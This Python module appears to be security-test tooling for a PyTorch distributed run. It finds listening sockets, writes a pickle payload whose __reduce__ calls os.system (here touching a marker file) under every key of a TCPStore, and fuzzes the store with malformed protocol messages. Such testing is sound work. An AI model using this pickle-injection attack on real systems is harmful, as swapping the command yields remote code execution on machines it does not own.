"""What somebody who is not of a run can do to it over a network: look for listening sockets, write to its store,
send it garbage."""

from __future__ import annotations

import contextlib
import os
import pickle
import random
import socket
import struct
from collections.abc import Iterable, Iterator
from datetime import timedelta
from pathlib import Path

LISTENS = "0A"  # the state, in the kernel's tables


def listeners(pids: Iterable[int] | None = None, of: str = "self") -> list[tuple[str, int]]:
    """(address, port) of every listening socket of these processes; of None: of all in the network of process `of`.
    Linux alone."""
    inodes = None if pids is None else {inode for pid in pids for inode in _sockets(pid)}
    found = []
    for table, family in (("tcp", socket.AF_INET), ("tcp6", socket.AF_INET6)):
        for line in Path(f"/proc/{of}/net/{table}").read_text().splitlines()[1:]:
            words = line.split()
            if words[3] == LISTENS and (inodes is None or words[9] in inodes):
                address, _, port = words[1].partition(":")
                found.append((_address(address, family), int(port, 16)))
    return found


def _sockets(pid: int) -> Iterator[str]:
    for entry in Path(f"/proc/{pid}/fd").iterdir():
        with contextlib.suppress(OSError):
            name = os.readlink(entry)
            if name.startswith("socket:["):
                yield name[8:-1]


def _address(text: str, family: int) -> str:
    """Of the kernel's form: words in the machine's order."""
    words = [int(text[i : i + 8], 16) for i in range(0, len(text), 8)]
    return socket.inet_ntop(family, struct.pack(f"={len(words)}I", *words))


class Bomb:
    """Unpickled, it makes a file."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self) -> tuple:
        return os.system, (f"touch {self.path}",)


def overwrite(host: str, port: int, marker: Path) -> int:
    """Write something that runs a command when it is unpickled under every key of the store at that port; how many.
    OSError: refused."""
    import torch.distributed as dist

    socket.create_connection((host, port), timeout=5).close()
    bomb = pickle.dumps(Bomb(str(marker)))
    try:
        store = dist.TCPStore(host, port, None, False, timedelta(seconds=2))
        names = [key for key in store.list_keys() if not key.startswith("init")] if hasattr(store, "list_keys") else []
    except (RuntimeError, dist.DistError):
        return 0  # no store
    kinds = [
        f"{prefix}{what}" for prefix in ("", "ranks/phalanx/") for what in ("heartbeat", "calls", "leaving", "failed")
    ]
    ours = [f"{kind}/{rank}" for kind in kinds for rank in range(2)]
    for name in (*names, *ours):
        store.set(name, bomb)
    return len(names) + len(ours)


def fuzz(host: str, port: int, count: int, seed: int) -> None:
    """Send so many messages of random bytes, of the beginnings of torch's, and of both, each over a connection of
    its own."""
    pick = random.Random(seed)
    for _ in range(count):
        with contextlib.suppress(OSError), socket.create_connection((host, port), timeout=5) as line:
            line.sendall(message(pick))
            if pick.random() < 0.2:
                line.settimeout(0.05)
                line.recv(64)


VALIDATE = bytes([0]) + struct.pack("<I", 0x3C85F7CE)  # how clients of torch's store begin


def message(pick: random.Random) -> bytes:
    noise = pick.randbytes(pick.choice([1, 4, 8, 40, 300, 5000]))
    kind = pick.randrange(5)
    if kind == 0:
        return noise
    query = bytes([pick.randrange(20)])
    length = struct.pack("<Q", pick.choice([0, 3, len(noise), 2**20, 2**31, 2**40, 2**63, 2**64 - 1]))
    if kind == 1:
        return VALIDATE + query + length + noise
    if kind == 2:
        return VALIDATE + query + noise
    if kind == 3:
        return length + noise
    return VALIDATE + query + struct.pack("<Q", 3) + b"key" + length + noise
